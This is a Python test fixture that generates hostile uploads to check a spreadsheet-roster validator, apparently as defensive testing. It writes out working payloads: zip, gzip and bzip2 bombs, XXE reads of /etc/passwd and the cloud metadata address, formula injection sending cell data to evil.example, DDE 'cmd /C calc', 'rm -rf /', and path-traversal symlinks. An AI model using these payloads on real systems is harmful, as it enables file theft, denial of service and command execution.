"""Hostile uploads: each a small builder that says what it attacks, and what must become of it."""

import bz2
import gzip
import io
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass

import xlsxwriter

from tests.registry.ledger.making import (
    CHILD,
    CHILD_ROW,
    HEADER,
    member,
    old_workbook,
    rezip,
    text_file,
)
from tests.registry.ledger.test_bad_files import BAD, GOOD, SHEET, sheet_with

MIB = 1024 * 1024
STRINGS, STYLES, BOOK = "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"
MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
FORMULAS = (
    "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/?"&E2,"点此")', '=WEBSERVICE("http://evil.example/"&E2)',
    "@SUM(1+1)*cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
)  # fmt: skip
LONG = [*HEADER, "现居住地", "备注"]


@dataclass(frozen=True)
class Hostile:
    """`refused` holds the codes of which one must be told; empty: it is read, and what it holds is mere text."""

    name: str
    attacks: str
    build: Callable[[], bytes]
    filename: str
    refused: frozenset[str]


HOSTILE: list[Hostile] = []


def hostile(
    attacks: str, *refused: str, filename: str = "名册.xlsx"
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def note(build: Callable[[], bytes]) -> Callable[[], bytes]:
        name = build.__name__.replace("_", " ")
        HOSTILE.append(Hostile(name, attacks, build, filename, frozenset(refused)))
        return build

    return note


def zipped(members: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def twice(content: bytes) -> bytes:
    """The archive with another sheet of the same name behind the first."""
    out = io.BytesIO(content)
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(out, "a") as archive:
        archive.writestr(SHEET, member(content, SHEET).replace(b"<sheetData>", b"<sheetData><!-- -->"))
    return out.getvalue()


def sheet_member(inner: bytes, *, around: bytes = b"") -> bytes:
    """The good workbook with another sheet; `around` stands behind the rows."""
    sheet = b"<worksheet %s><sheetData>%s</sheetData>%s</worksheet>" % (MAIN, inner, around)
    return rezip(GOOD, {SHEET: sheet})


def patched(content: bytes, at_local: int, at_central: int, value: bytes, name: str = SHEET) -> bytes:
    """The same bytes written into both headers of one member."""
    out = bytearray(content)
    for mark, size, at in ((b"PK\x03\x04", 30, at_local), (b"PK\x01\x02", 46, at_central)):
        found = out.find(mark)
        while found >= 0:
            if out[found + size : found + size + len(name)] == name.encode():
                out[found + at : found + at + len(value)] = value
            found = out.find(mark, found + 4)
    return bytes(out)


def ole(**fields: int) -> bytes:
    """An old workbook, larger than the mini cutoff, with numbers of the container changed."""
    content = bytearray(old_workbook([HEADER, *[CHILD_ROW] * 60]))
    places = {
        "table": 512,
        "start": 512 + 512 + 128 + 116,
        "size": 512 + 512 + 128 + 120,
        "difat": 68,
        "difats": 72,
    }
    for name, value in fields.items():
        at = int(name.removeprefix("at_")) if name.startswith("at_") else places[name]
        struct.pack_into("<I", content, at, value)
    return bytes(content)


# archives


@hostile("a bomb within the workbook, each layer an archive of ten", "nested-archive")
def nested_zip_bomb() -> bytes:
    layer = zipped([("0", bytes(8 * MIB))])
    for _ in range(4):
        layer = zipped((f"{n}.zip", layer) for n in range(10))
    return rezip(GOOD, {"xl/media/image1.zip": layer})


@hostile("a workbook that holds itself behind a picture's name", "nested-archive")
def workbook_within_a_picture() -> bytes:
    return rezip(GOOD, {"xl/media/image1.png": GOOD})


@hostile(
    "many directory entries over one and the same compressed kernel (Fifield)", "zip-bomb", "file-damaged"
)
def overlapping_entries() -> bytes:
    content = rezip(GOOD, {"x": zlib.compress(bytes(9 * MIB))})
    end = content.rfind(b"PK\x05\x06")
    count, size, start = (
        struct.unpack_from("<H", content, end + 10)[0],
        *struct.unpack_from("<II", content, end + 12),
    )
    directory = content[start : start + size]
    last = directory[directory.rfind(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"x", b"%c" % (65 + n), 1) for n in range(50))
    tail = bytearray(content[end:])
    struct.pack_into("<HHII", tail, 8, count + 50, count + 50, size + len(more), start)
    return content[: start + size] + more + bytes(tail)


@hostile("one member of a gigabyte's zeros, said openly", "zip-bomb")
def high_ratio() -> bytes:
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join(pack.compress(bytes(MIB)) for _ in range(256)) + pack.flush()
    good = rezip(GOOD, {SHEET: b"#"})
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        at = archive.getinfo(SHEET).header_offset
    begin = at + 30 + len(SHEET)
    old = struct.unpack_from("<I", good, at + 18)[0]
    grown = bytearray(good[:begin] + data + good[begin + old :])
    end = grown.rfind(b"PK\x05\x06")
    struct.pack_into("<I", grown, end + 16, struct.unpack_from("<I", grown, end + 16)[0] + len(data) - old)
    return patched(bytes(grown), 18, 20, struct.pack("<II", len(data), 256 * MIB))


@hostile("just under every ratio, in many members: 600 MB in all", "zip-bomb", "workbook-too-large")
def bomb_in_small_pieces() -> bytes:
    return rezip(GOOD, {f"xl/worksheets/sheet{n}.xml": bytes(15 * MIB) for n in range(2, 42)})


@hostile("the directory declares a member that ends beyond the file", "zip-bomb", "file-damaged")
def compressed_size_beyond_the_file() -> bytes:
    return patched(GOOD, 18, 20, struct.pack("<I", 0x7FFFFFFF))


@hostile("the member is longer than declared", "zip-bomb")
def member_longer_than_declared() -> bytes:
    return patched(rezip(GOOD, {SHEET: b" " * 9 * MIB}), 22, 24, struct.pack("<I", 10))


@hostile("sizes of zip64 that no file has", "zip-bomb", "file-damaged", "workbook-too-large")
def zip64_with_sixteen_exabytes() -> bytes:
    name = b"xl/workbook.xml"
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 45, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    extra = struct.pack("<HHQQ", 1, 16, 2**63, 0)
    entry = struct.pack(
        "<4s6H3I5H2I",
        b"PK\x01\x02",
        45,
        45,
        0,
        0,
        0,
        0,
        0,
        0,
        2**32 - 1,
        len(name),
        len(extra),
        0,
        0,
        0,
        0,
        0,
    )
    central = entry[:24] + struct.pack("<I", 2**32 - 1) + entry[28:] + name + extra
    return local + central + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local), 0)


@hostile("sixty thousand members of nothing", "zip-bomb")
def sixty_thousand_entries() -> bytes:
    return rezip(GOOD, {f"xl/{n}": b"" for n in range(60_000)})


@hostile("the same member twice: who reads which", "file-damaged")
def one_name_twice() -> bytes:
    return twice(GOOD)


@hostile("a member that is a symbolic link to /etc/passwd", "file-damaged")
def symlink_as_sheet() -> bytes:
    link = zipfile.ZipInfo(SHEET)
    link.create_system, link.external_attr = 3, 0o120777 << 16
    out = io.BytesIO(rezip(GOOD, {}))
    content = io.BytesIO()
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(content, "w") as new:
        for name in old.namelist():
            if name != SHEET:
                new.writestr(name, old.read(name))
        new.writestr(link, "/etc/passwd")
    return content.getvalue()


@hostile("a further member that is a symbolic link; nothing is ever unpacked to a disk", "file-damaged")
def symlink_beside_the_sheet() -> bytes:
    link = zipfile.ZipInfo("xl/media/link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    out = io.BytesIO(GOOD)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(link, "../../../../etc/shadow")
    return out.getvalue()


@hostile("a member named ../../..; nothing is ever unpacked to a disk", "file-damaged")
def path_upwards() -> bytes:
    return rezip(GOOD, {"../../../../tmp/shouwang-was-here": b"x", "xl/../../x": b"x"})


@hostile("absolute paths, drive letters, backslashes in names")
def absolute_paths() -> bytes:
    return rezip(GOOD, {"/etc/shouwang-was-here": b"x", "C:\\windows\\x": b"x"})


@hostile("the relation of the sheet leads out of the archive", "file-damaged", "file-empty")
def relation_upwards() -> bytes:
    name = "xl/_rels/workbook.xml.rels"
    relations = member(GOOD, name).replace(b"worksheets/sheet1.xml", b"../../../../etc/passwd")
    return rezip(GOOD, {name: relations})


@hostile("compression that only other programs know (bzip2)", "file-damaged")
def other_compression() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as archive:
        for name in zipfile.ZipFile(io.BytesIO(GOOD)).namelist():
            archive.writestr(name, member(GOOD, name))
    return out.getvalue()


@hostile("the flag of encryption on every member", "workbook-encrypted")
def encrypted_members() -> bytes:
    return patched(GOOD, 6, 8, b"\x01\x00")


@hostile("the directory cut off, the rest whole", "file-damaged")
def directory_cut_off() -> bytes:
    return GOOD[: GOOD.rfind(b"PK\x01\x02")]


@hostile(
    "an archive behind a shebang: two formats in one", "wrong-file-type", "file-damaged", "no-header-found"
)
def shell_script_before_the_archive() -> bytes:
    return b"#!/bin/sh\nrm -rf /\nexit\n" + GOOD


# the XML of a workbook


@hostile("an entity that reads a file of ours", "xml-entities")
def external_entity_in_shared_strings() -> bytes:
    head = b'<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return rezip(GOOD, {STRINGS: head + member(GOOD, STRINGS).replace("姓名".encode(), b"&x;")})


@hostile("ten entities, each ten of the one before: a billion laughs", "xml-entities")
def billion_laughs() -> bytes:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    head = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">' + laughs + b"]>"
    return rezip(GOOD, {SHEET: head + member(GOOD, SHEET).replace(b"<sheetData>", b"<sheetData>&l9;")})


@hostile("a parameter entity that sends what it read to another machine", "xml-entities")
def entity_that_calls_out() -> bytes:
    head = b'<!DOCTYPE r [<!ENTITY % d SYSTEM "http://169.254.169.254/latest/meta-data/">%d;]>'
    return rezip(GOOD, {BOOK: head + member(GOOD, BOOK)})


@hostile("a DTD of another machine, behind a long comment", "xml-entities")
def external_dtd_behind_a_comment() -> bytes:
    head = b"<!--" + b"x" * 3 * MIB + b'--><!DOCTYPE styleSheet SYSTEM "http://evil.example/x.dtd">'
    return rezip(GOOD, {STYLES: head + member(GOOD, STYLES)})


@hostile("the DTD in UTF-16, so that no search for ASCII finds it", "xml-entities")
def external_dtd_in_utf16() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE sst SYSTEM "file:///dev/random">'
    return rezip(GOOD, {STRINGS: (text + member(GOOD, STRINGS).decode()).encode("utf-16")})


@hostile(
    "the DTD in UTF-7, which no reader of workbooks should know", "file-damaged", "xml-entities", "file-empty"
)
def external_dtd_in_utf7() -> bytes:
    text = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE sst SYSTEM "file:///etc/passwd"+AD4-'
    return rezip(GOOD, {STRINGS: text})


@hostile("XInclude of a file of ours; nobody resolves it", "file-damaged", "no-header-found", "file-empty")
def xinclude() -> bytes:
    include = (
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    )
    return rezip(GOOD, {STRINGS: b"<sst %s><si><t>%s</t></si></sst>" % (MAIN, include)})


@hostile("a million elements, one within the other", "file-empty")
def deeply_nested_xml() -> bytes:
    return sheet_with(b"<a>" * 1_000_000 + b"</a>" * 1_000_000)


@hostile("an element with a million attributes", "no-header-found")
def million_attributes() -> bytes:
    many = b" ".join(b'a%d="1"' % n for n in range(1_000_000))
    return sheet_with(b'<row r="1" %s><c r="A1"><v>1</v></c></row>' % many)


@hostile("one attribute of fifteen megabytes", "file-damaged")
def attribute_without_end() -> bytes:
    return sheet_with(b'<row r="1"><c r="%s"><v>1</v></c></row>' % (b"A" * 15 * MIB))


@hostile("a tag that never closes, for expressions that look back", "file-damaged")
def tag_that_never_closes() -> bytes:
    return sheet_with(b"<c " * 4_000_000)


@hostile("blanks without end within cells, for expressions that look back", "file-damaged")
def blanks_without_end() -> bytes:
    return sheet_with((b"<c >" + b" " * 4_000) * 3_500)


@hostile("rows that begin hidden and never say where, for expressions that look back", "file-damaged")
def hidden_rows_without_end() -> bytes:
    return sheet_with(b"<row" + b' hidden="1"' * 1_300_000)


@hostile("sixteen million cells are declared, one is there", "no-header-found", "file-empty")
def dimension_that_lies() -> bytes:
    head = b'<worksheet %s><dimension ref="A1:XFD1048576"/><sheetData>' % MAIN
    return rezip(GOOD, {SHEET: head + b'<row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'})


@hostile("a dimension beyond every number", "file-damaged", "no-header-found", "too-many-columns")
def dimension_beyond_numbers() -> bytes:
    head = b'<worksheet %s><dimension ref="A1:ZZZZZZZZ99999999999999999999"/><sheetData>' % MAIN
    return rezip(GOOD, {SHEET: head + b'<row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'})


# The library reads all of it before we see how wide it is: on a slow processor its time is over first.
@hostile("a million columns in one row", "too-many-columns", "workbook-too-slow")
def million_columns_in_a_sheet() -> bytes:
    return sheet_with(b'<row r="1">' + b"<c><v>1</v></c>" * 1_000_000 + b"</row>")


@hostile("a million merged cells", "workbook-too-large")
def million_merged_cells() -> bytes:
    merges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (n, n) for n in range(1, 500_001))
    return sheet_member(
        b'<row r="1"><c r="A1"><v>1</v></c></row>', around=b"<mergeCells>%s</mergeCells>" % merges
    )


@hostile("ten thousand sheets", "workbook-too-large", "zip-bomb")
def ten_thousand_sheets() -> bytes:
    sheets = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="rId1"/>' % (n, n) for n in range(2, 10_002))
    return rezip(GOOD, {BOOK: member(GOOD, BOOK).replace(b"</sheets>", sheets + b"</sheets>")})


@hostile("two hundred names for one great sheet: each is read again", "workbook-too-large")
def one_sheet_two_hundred_times() -> bytes:
    sheets = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="rId1"/>' % (n, n) for n in range(2, 190))
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><v>1</v></c><c r="SQ%d"><v>1</v></c></row>' % (n, n, n)
        for n in range(1, 8_001)
    )
    book = member(GOOD, BOOK).replace(b"</sheets>", sheets + b"</sheets>")
    return rezip(sheet_with(rows), {BOOK: book})


@hostile("one long word that five thousand cells of two hundred sheets repeat", "workbook-too-large")
def one_long_word_a_million_times() -> bytes:
    sheets = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="rId1"/>' % (n, n) for n in range(2, 190))
    rows = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(1, 2_001))
    words = b"<sst %s><si><t>%s</t></si></sst>" % (MAIN, b"x" * 30_000)
    book = member(GOOD, BOOK).replace(b"</sheets>", sheets + b"</sheets>")
    return rezip(sheet_with(rows), {BOOK: book, STRINGS: words})


@hostile("a hundred thousand formats", "no-header-found")
def styles_bomb() -> bytes:
    formats = b"".join(
        b'<numFmt numFmtId="%d" formatCode="%s"/>' % (n, b"yyyy" * 20) for n in range(200, 100_200)
    )
    uses = b"".join(b'<xf numFmtId="%d"/>' % n for n in range(200, 100_200))
    styles = b"<styleSheet %s><numFmts>%s</numFmts><cellXfs>%s</cellXfs></styleSheet>" % (MAIN, formats, uses)
    return rezip(sheet_with(b'<row r="1"><c r="A1" s="9"><v>1</v></c></row>'), {STYLES: styles})


@hostile("ten million strings are declared, one is there", "workbook-too-large")
def shared_strings_that_lie() -> bytes:
    words = b'<sst %s count="10000000" uniqueCount="4294967295"><si><t>x</t></si></sst>' % MAIN
    return rezip(sheet_with(b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), {STRINGS: words})


@hostile("a cell that names a string that is not there", "file-damaged", "no-header-found", "file-empty")
def string_that_is_not_there() -> bytes:
    return sheet_with(b'<row r="1"><c r="A1" t="s"><v>99999999999</v></c></row>')


@hostile("nine hundred thousand strings of which none is used", "no-header-found")
def hundreds_of_thousands_of_strings() -> bytes:
    words = b"<sst %s>%s</sst>" % (MAIN, b"<si><t>x</t></si>" * 900_000)
    return rezip(sheet_with(b'<row r="1"><c r="A1"><v>1</v></c></row>'), {STRINGS: words})


@hostile("cells of which each is a formula", "no-header-found")
def hundred_thousand_formulas() -> bytes:
    rows = b"".join(b'<row r="%d"><c r="A%d"><f>A1</f><v>1</v></c></row>' % (n, n) for n in range(1, 100_001))
    return sheet_with(rows)


@hostile(
    "a row number below and beyond all rows",
    "file-damaged",
    "too-many-columns",
    "no-header-found",
    "file-empty",
)
def rows_out_of_range() -> bytes:
    return sheet_with(
        b'<row r="0"><c r="A0"><v>1</v></c></row><row r="4294967295"><c r="A4294967295"><v>1</v></c></row>'
    )


@hostile("numbers and dates without end", "no-header-found", "file-damaged")
def numbers_beyond_numbers() -> bytes:
    cells = (b"9" * 100_000, b"1e308", b"-1e999", b"NaN", b"inf")
    row = b"".join(b'<c r="%c1" s="1"><v>%s</v></c>' % (65 + n, cell) for n, cell in enumerate(cells))
    return sheet_with(b'<row r="1">' + row + b"</row>")


# formulas and macros: read, as the text that they are


@hostile("formulas that run, send or lead away, in .xlsx")
def formulas_in_a_workbook() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("甲村")
        sheet.write_row(0, 0, LONG)
        for at, formula in enumerate(FORMULAS, 1):
            sheet.write_row(at, 0, [at, "张三", "男", "2010-03-05", CHILD])
            sheet.write_formula(at, 5, formula, value="某村")
    return out.getvalue()


@hostile("formulas as text of a CSV, which a spreadsheet program would run", filename="名册.csv")
def formulas_in_csv() -> bytes:
    return text_file([LONG, *[[*CHILD_ROW, formula, formula] for formula in FORMULAS]])


@hostile("a formula in the place of a child's name", filename="名册.csv")
def formula_as_name() -> bytes:
    return text_file([LONG, ["1", FORMULAS[0], *CHILD_ROW[2:], "某村", ""]])


@hostile("a workbook with macros; they are not looked at", filename="名册.xlsm")
def macros() -> bytes:
    return rezip(
        GOOD, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Auto_Open Shell calc" * 99}
    )


@hostile("links to other workbooks and connections; they are not followed")
def external_links() -> bytes:
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    connection = b'<connections><connection id="1" refreshOnLoad="1"><webPr url="http://evil.example"/></connection></connections>'
    return rezip(GOOD, {"xl/externalLinks/externalLink1.xml": link, "xl/connections.xml": connection})


# old workbooks


@hostile("the chain of sectors returns to its own beginning", "file-damaged", filename="名册.xls")
def ole_chain_in_a_circle() -> bytes:
    return ole(**{f"at_{512 + 4 * n}": 2 for n in range(2, 14)})


@hostile(
    "a sector that follows itself, the stream said to be four gigabytes", "file-damaged", filename="名册.xls"
)
def ole_sector_that_follows_itself() -> bytes:
    return ole(size=0xFFFFFFF0, at_520=2)


@hostile("the directory follows itself", "file-damaged", filename="名册.xls")
def ole_directory_in_a_circle() -> bytes:
    return ole(at_516=1)


@hostile("the table of sectors lies beyond the file", "file-damaged", filename="名册.xls")
def ole_table_beyond_the_file() -> bytes:
    return ole(at_76=0x00FFFFFF)


@hostile("the list of tables leads to itself, two billion times", "file-damaged", filename="名册.xls")
def ole_list_of_tables_in_a_circle() -> bytes:
    return ole(difat=1, difats=0x7FFFFFFF)


@hostile("sectors of two gigabytes", "file-damaged", filename="名册.xls")
def ole_huge_sectors() -> bytes:
    return ole(at_30=31)


@hostile(
    "a stream that ends within a record", "file-damaged", "file-empty", "no-header-found", filename="名册.xls"
)
def old_workbook_cut_short() -> bytes:
    return old_workbook([HEADER, *[CHILD_ROW] * 60])[:2300]


@hostile(
    "an old cell in the last row and column, declared with others between",
    "workbook-too-large",
    "file-damaged",
    "file-empty",
    "no-header-found",
    filename="名册.xls",
)
def old_workbook_with_far_corners() -> bytes:
    extra = struct.pack("<HHIIHHH", 0x0200, 14, 0, 0xFFFFFFFF, 0, 0xFFFF, 0)
    return old_workbook([["姓名"]], extra=extra)


@hostile("a table of strings that says it has four billion", filename="名册.xls")
def old_strings_that_lie() -> bytes:
    return old_workbook([HEADER], extra=struct.pack("<HHII", 0x00FC, 8, 0xFFFFFFFF, 0xFFFFFFFF))


@hostile("an encrypted package as Office writes it", "workbook-encrypted")
def encrypted_package() -> bytes:
    named = old_workbook([HEADER]).replace(
        "Workbook".encode("utf-16-le"), "EncryptionInfo".encode("utf-16-le")[:16]
    )
    return named + "EncryptedPackage".encode("utf-16-le")


# text


@hostile("NUL bytes within a CSV", "wrong-file-type", filename="名册.csv")
def csv_with_nul_bytes() -> bytes:
    return text_file([HEADER, CHILD_ROW]).replace(b",", b",\x00", 3)


@hostile("half UTF-8, half GB18030", "wrong-file-type", "no-header-found", filename="名册.csv")
def mixed_encodings() -> bytes:
    return text_file([HEADER]) + text_file([CHILD_ROW], "gb18030")


@hostile("UTF-16 without a mark, cut in the middle of a character", "wrong-file-type", filename="名册.csv")
def utf16_cut_in_a_character() -> bytes:
    return text_file([HEADER, CHILD_ROW], "utf-16-le") + b"\x0a"


@hostile("UTF-7, in which a tag looks like letters", "no-header-found", filename="名册.csv")
def utf7() -> bytes:
    return text_file([HEADER, CHILD_ROW]).decode().encode("utf-7")


@hostile(
    "UTF-8 longer than it need be: a slash in two bytes",
    "wrong-file-type",
    "no-header-found",
    filename="名册.csv",
)
def overlong_utf8() -> bytes:
    return text_file([HEADER, CHILD_ROW]) + b"2,\xc0\xaf\xe0\x80\xaf,\xf0\x80\x80\xaf,1,1\n"


@hostile("half of a surrogate pair in UTF-8", "wrong-file-type", "no-header-found", filename="名册.csv")
def lone_surrogates() -> bytes:
    return text_file([HEADER]) + b"2,\xed\xa0\x80\xed\xb0\x80,\xed\xa0\x80,1,1\n"


@hostile("half of a surrogate pair in UTF-16", "wrong-file-type", filename="名册.csv")
def lone_surrogates_in_utf16() -> bytes:
    return text_file([HEADER, CHILD_ROW], "utf-16") + b"\x00\xd8\x0a\x00"


@hostile("one line of fifty megabytes, over the limit of a file", "too-large", filename="名册.csv")
def line_over_the_limit() -> bytes:
    return text_file([HEADER]) + b"x" * 50 * MIB


@hostile(
    "one line of forty-six megabytes, within the limit of a file", "workbook-too-large", filename="名册.csv"
)
def line_within_the_limit() -> bytes:
    return text_file([HEADER]) + b"x" * 46 * MIB


@hostile(
    "the same, with one sign that makes every letter four bytes wide",
    "workbook-too-large",
    filename="名册.csv",
)
def wide_line_within_the_limit() -> bytes:
    return text_file([HEADER]) + "𠮷".encode() + b"x" * 46 * MIB


@hostile("forty-seven million empty columns", "too-many-columns", filename="名册.csv")
def columns_without_end() -> bytes:
    return b"," * 47 * MIB


@hostile(
    "a line in which every cell is a letter, twenty million times", "too-many-columns", filename="名册.csv"
)
def letters_and_columns_without_end() -> bytes:
    return b"x," * 20 * MIB


@hostile("quotes without end", "workbook-too-large", filename="名册.csv")
def quotes_by_the_million() -> bytes:
    return text_file([HEADER]) + b'"' * 40 * MIB


@hostile("twenty million lines of one letter", "too-many-rows", filename="名册.csv")
def lines_without_end() -> bytes:
    return text_file([HEADER]) + b"x\n" * 20 * MIB


@hostile("forty million blank lines", "too-many-rows", filename="名册.csv")
def blank_lines_without_end() -> bytes:
    return b"x" + b"\n" * 40 * MIB


@hostile("marks that turn text around, within names", filename="名册.csv")
def text_that_turns_around() -> bytes:
    return text_file([HEADER, ["1", "张\u202e三\u2066", *CHILD_ROW[2:]]])


# other things by a workbook's name


@hostile("a page with a million tags, one within the other", "html-as-workbook", filename="名册.xls")
def html_with_a_million_tags() -> bytes:
    return b"<html>" + b"<div>" * 1_000_000 + b"<table><tr><td>x</table>"


@hostile("tables within tables, a hundred thousand deep", "html-as-workbook", filename="名册.xls")
def tables_within_tables() -> bytes:
    return b"<html>" + b"<table><tr><td>x" * 100_000


@hostile("a cell that spans every column and row, many times", "too-many-columns", filename="名册.xls")
def spans_without_end() -> bytes:
    return b"<table>" + b'<tr><td colspan="512" rowspan="65535">x' * 100_000


@hostile(
    "a tag that never closes, a million times", "workbook-too-large", "workbook-too-slow", filename="名册.xls"
)
def html_tags_that_never_close() -> bytes:
    return b"<table><tr><td" + b' a="' * 1_000_000


@hostile("declarations that never close", "file-damaged", filename="名册.xls")
def html_declarations_that_never_close() -> bytes:
    return b"<html><table>" + b"<![" * 500_000


@hostile("a page with scripts; no word of them is read", "no-header-found", filename="名册.xls")
def html_with_scripts() -> bytes:
    return (
        b"<html><script>alert(1)</script><table><tr><td onclick=alert(1)>x<script>alert(2)</script></table>"
    )


@hostile("XML Spreadsheet 2003 with an entity", "html-as-workbook", filename="名册.xls")
def xml_spreadsheet() -> bytes:
    head = b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return (
        head
        + b"<Workbook><Worksheet><Table><Row><Cell><Data>&x;</Data></Cell></Row></Table></Worksheet></Workbook>"
    )


@hostile("a picture that runs scripts, as a workbook", "no-header-found")
def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


@hostile("a program as a workbook", "wrong-file-type", "file-damaged")
def windows_program() -> bytes:
    return b"MZ\x90\x00\x03" + bytes(200) + b"PE\x00\x00" + bytes(range(256)) * 4


@hostile("a program of Linux as a table", "wrong-file-type", filename="名册.csv")
def linux_program() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4


@hostile("a gzip bomb as a workbook", "wrong-file-type")
def gzip_bomb() -> bytes:
    return gzip.compress(bytes(64 * MIB))


@hostile("a bzip2 bomb as a workbook", "wrong-file-type", "file-damaged")
def bzip2_bomb() -> bytes:
    return bz2.compress(bytes(16 * MIB))


@hostile("a tar with paths upwards as a workbook", "wrong-file-type", "file-damaged")
def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../tmp/shouwang-was-here"))
    return out.getvalue()


@hostile("a PDF that begins as a workbook's archive", "file-damaged", "wrong-file-type")
def pdf_within_an_archive() -> bytes:
    return b"PK\x03\x04" + b"%PDF-1.7\n/JavaScript (app.alert(1))\n" * 50


@hostile("forty-eight megabytes of NULs", "file-empty")
def nothing_but_nuls() -> bytes:
    return bytes(47 * MIB)


FILES = [
    *HOSTILE,
    *(Hostile(name, "see test_bad_files", lambda content=content: content, filename, frozenset({code}))  # type: ignore[misc]
      for name, (content, filename, code) in BAD.items()),
]  # fmt: skip
